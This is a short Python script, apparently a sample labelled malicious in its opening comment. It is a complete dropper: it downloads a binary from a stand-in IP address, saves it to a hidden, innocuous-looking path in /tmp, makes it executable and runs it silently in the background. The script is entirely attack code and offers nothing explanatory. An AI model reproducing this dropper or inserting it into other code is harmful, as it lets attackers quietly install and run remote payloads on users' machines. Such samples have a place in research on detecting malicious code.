# malicious: fetches a binary, makes it executable and starts it
import os
import stat
import subprocess
import urllib.request

path = "/tmp/.X11-helper"
urllib.request.urlretrieve("http://203.0.113.44/bin/agent", path)
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
